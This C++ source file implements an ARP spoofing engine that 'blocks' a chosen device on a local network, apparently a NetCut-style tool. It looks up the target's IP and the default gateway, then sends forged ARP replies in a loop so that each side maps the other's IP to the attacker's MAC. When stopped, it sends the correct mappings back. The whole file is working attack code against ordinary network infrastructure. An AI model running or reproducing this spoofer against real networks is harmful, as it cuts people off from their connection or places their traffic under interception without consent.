/**
 * @file ncf_spoof_engine.cpp
 * @brief SpoofEngine implementation
 */

#include "ncf_spoof_engine.hpp"
#include "ncf_logger.hpp"

#include <atomic>
#include <exception>
#include <future>
#include <thread>

namespace ncf {

const char* to_string(BlockStatus status) {
    switch (status) {
        case BlockStatus::Idle:     return "Idle";
        case BlockStatus::Blocking: return "Blocking";
    }
    return "?";
}

// ─── CancellationToken ──────────────────────────────────────────────────────

void CancellationToken::cancel() {
    {
        std::lock_guard<std::mutex> lock(mu_);
        cancelled_ = true;
    }
    cv_.notify_all();
}

bool CancellationToken::cancelled() const {
    std::lock_guard<std::mutex> lock(mu_);
    return cancelled_;
}

bool CancellationToken::wait_for(std::chrono::milliseconds d) const {
    std::unique_lock<std::mutex> lock(mu_);
    return cv_.wait_for(lock, d, [this] { return cancelled_; });
}

// ─── Loop ───────────────────────────────────────────────────────────────────

namespace {

struct LoopCounters {
    std::atomic<uint64_t> spoof_frames_sent{0};
    std::atomic<uint64_t> send_failures{0};
    std::atomic<uint64_t> restore_frames_sent{0};
};

bool send_frame(ILinkTransport& link, const ArpFrame& frame) {
    try {
        return link.send_arp(frame);
    } catch (const std::exception& e) {
        NCF_LOG_DEBUG("send_arp threw: " << e.what());
        return false;
    }
}

void restore_caches(ILinkTransport& link, const SessionAddresses& s,
                    int count, LoopCounters& counters) {
    NCF_LOG_INFO("Restoring ARP tables");

    // Target learns the gateway's real MAC again
    const ArpFrame to_target = ArpFrame::reply(s.our_mac, s.gateway_mac, s.gateway_ip,
                                               s.target_mac, s.target_ip);
    // Gateway learns the target's real MAC again
    const ArpFrame to_gateway = ArpFrame::reply(s.our_mac, s.target_mac, s.target_ip,
                                                s.gateway_mac, s.gateway_ip);

    int failed = 0;
    for (int i = 0; i < count; ++i) {
        if (send_frame(link, to_target)) counters.restore_frames_sent++;
        else ++failed;
    }
    for (int i = 0; i < count; ++i) {
        if (send_frame(link, to_gateway)) counters.restore_frames_sent++;
        else ++failed;
    }

    if (failed > 0) {
        NCF_LOG_WARN("ARP restore: " << failed << " of " << 2 * count << " frames failed");
    } else {
        NCF_LOG_INFO("ARP tables restored");
    }
}

void spoof_loop(std::shared_ptr<ILinkTransport> link,
                SessionAddresses s,
                SpoofTiming timing,
                std::shared_ptr<CancellationToken> token,
                std::shared_ptr<LoopCounters> counters,
                std::promise<void> done) {
    const ArpFrame to_target = ArpFrame::reply(s.our_mac, s.our_mac, s.gateway_ip,
                                               s.target_mac, s.target_ip);
    const ArpFrame to_gateway = ArpFrame::reply(s.our_mac, s.our_mac, s.target_ip,
                                                s.gateway_mac, s.gateway_ip);

    while (!token->cancelled()) {
        bool ok = send_frame(*link, to_target);
        if (ok) {
            counters->spoof_frames_sent++;
            ok = send_frame(*link, to_gateway);
            if (ok) counters->spoof_frames_sent++;
        }

        if (ok) {
            token->wait_for(timing.interval);
        } else {
            counters->send_failures++;
            NCF_LOG_WARN("Spoof send failed, retrying in " << timing.backoff.count() << " ms");
            token->wait_for(timing.backoff);
        }
    }

    NCF_LOG_INFO("Stopping ARP spoof");
    restore_caches(*link, s, timing.restore_count, *counters);
    done.set_value();
}

} // namespace

// ─── Impl ───────────────────────────────────────────────────────────────────

struct SpoofEngine::Impl {
    std::shared_ptr<ILinkTransport>    link;
    DeviceDirectory&                   directory;
    SpoofTiming                        timing;

    mutable std::mutex                 transition_mu;
    std::atomic<BlockStatus>           status{BlockStatus::Idle};
    std::optional<SessionAddresses>    session;
    std::shared_ptr<CancellationToken> token;
    std::shared_ptr<LoopCounters>      counters = std::make_shared<LoopCounters>();
    std::thread                        worker;
    std::future<void>                  done;
    uint64_t                           sessions_started = 0;

    Impl(std::shared_ptr<ILinkTransport> l, DeviceDirectory& d, SpoofTiming t)
        : link(std::move(l)), directory(d), timing(t) {}

    std::optional<SessionAddresses> resolve(const std::string& target_mac) {
        auto mac = parse_mac(target_mac);
        if (!mac) {
            NCF_LOG_ERROR("'" << target_mac << "' is not a MAC address");
            return std::nullopt;
        }

        auto target_ip = directory.resolve_ip(target_mac);
        if (!target_ip) {
            NCF_LOG_ERROR("Could not find IP for MAC " << mac_to_string(*mac));
            return std::nullopt;
        }

        std::optional<IPv4Address> gateway_ip;
        std::optional<MACAddress> gateway_mac;
        try {
            gateway_ip = link->default_gateway();
            if (gateway_ip) gateway_mac = link->lookup_mac(*gateway_ip);
        } catch (const std::exception& e) {
            NCF_LOG_ERROR("Gateway lookup failed: " << e.what());
            return std::nullopt;
        }
        if (!gateway_ip || !gateway_mac) {
            NCF_LOG_ERROR("Could not determine gateway");
            return std::nullopt;
        }

        SessionAddresses s;
        s.our_mac     = link->interface_info().mac;
        s.target_mac  = *mac;
        s.target_ip   = *target_ip;
        s.gateway_ip  = *gateway_ip;
        s.gateway_mac = *gateway_mac;
        return s;
    }
};

// ─── SpoofEngine ────────────────────────────────────────────────────────────

SpoofEngine::SpoofEngine(std::shared_ptr<ILinkTransport> link,
                         DeviceDirectory& directory,
                         SpoofTiming timing)
    : impl_(std::make_unique<Impl>(std::move(link), directory, timing))
{}

SpoofEngine::~SpoofEngine() {
    if (impl_) stop();
}

bool SpoofEngine::start(const std::string& target_mac) {
    std::lock_guard<std::mutex> lock(impl_->transition_mu);

    if (impl_->status.load() == BlockStatus::Blocking) {
        NCF_LOG_INFO("Already blocking");
        return true;
    }

    NCF_LOG_INFO("Starting ARP spoof against " << target_mac);
    auto s = impl_->resolve(target_mac);
    if (!s) return false;

    NCF_LOG_INFO("Target: " << ip_to_string(s->target_ip) << " (" << mac_to_string(s->target_mac) << ")");
    NCF_LOG_INFO("Gateway: " << ip_to_string(s->gateway_ip) << " (" << mac_to_string(s->gateway_mac) << ")");

    impl_->session = *s;
    impl_->token = std::make_shared<CancellationToken>();

    std::promise<void> done;
    impl_->done = done.get_future();
    impl_->worker = std::thread(spoof_loop, impl_->link, *s, impl_->timing,
                                impl_->token, impl_->counters, std::move(done));

    impl_->sessions_started++;
    impl_->status.store(BlockStatus::Blocking);
    NCF_LOG_INFO("BLOCKING " << mac_to_string(s->target_mac));
    return true;
}

bool SpoofEngine::stop() {
    std::lock_guard<std::mutex> lock(impl_->transition_mu);

    if (impl_->status.load() == BlockStatus::Idle) {
        NCF_LOG_DEBUG("Not currently blocking");
        return true;
    }

    impl_->token->cancel();

    bool acknowledged =
        impl_->done.wait_for(impl_->timing.stop_timeout) == std::future_status::ready;
    if (acknowledged) {
        impl_->worker.join();
    } else {
        // The loop owns everything it touches, so it may finish on its own
        NCF_LOG_WARN("Spoof loop did not stop within "
                     << impl_->timing.stop_timeout.count() << " ms, detaching");
        impl_->worker.detach();
    }

    const std::string mac = impl_->session ? mac_to_string(impl_->session->target_mac) : "?";
    impl_->session.reset();
    impl_->token.reset();
    impl_->status.store(BlockStatus::Idle);
    NCF_LOG_INFO("UNBLOCKED " << mac);
    return acknowledged;
}

BlockStatus SpoofEngine::status() const {
    return impl_->status.load();
}

std::optional<SessionAddresses> SpoofEngine::session() const {
    std::lock_guard<std::mutex> lock(impl_->transition_mu);
    return impl_->session;
}

SpoofStats SpoofEngine::stats() const {
    SpoofStats s;
    {
        std::lock_guard<std::mutex> lock(impl_->transition_mu);
        s.sessions_started = impl_->sessions_started;
    }
    s.spoof_frames_sent   = impl_->counters->spoof_frames_sent.load();
    s.send_failures       = impl_->counters->send_failures.load();
    s.restore_frames_sent = impl_->counters->restore_frames_sent.load();
    return s;
}

const SpoofTiming& SpoofEngine::timing() const {
    return impl_->timing;
}

} // namespace ncf
